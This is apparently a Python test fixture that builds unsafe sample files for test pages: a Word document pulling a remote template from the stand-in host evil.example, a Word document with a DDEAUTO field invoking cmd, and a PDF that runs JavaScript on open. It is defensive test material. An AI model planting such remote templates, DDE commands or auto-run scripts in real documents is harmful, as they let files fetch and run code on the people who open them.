"""Files for the case pages of what could harm a visitor."""

from collections.abc import Callable, Mapping

from tests.unit.source.documents.made import pdf_of
from tests.unit.source.office_parts import fields, related

UNSAFE_MAKERS: Mapping[str, Callable[[], bytes]] = {
    "docx_with_remote_template": lambda: related("attachedTemplate", "https://evil.example/t.dotm"),
    "docx_with_command": lambda: fields(" DDEAUTO c:\\\\windows\\\\cmd "),
    "pdf_with_script": lambda: pdf_of(
        "ประกาศ", catalogue=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    ),
}
"""The name that a page uses, to the function that makes the bytes."""
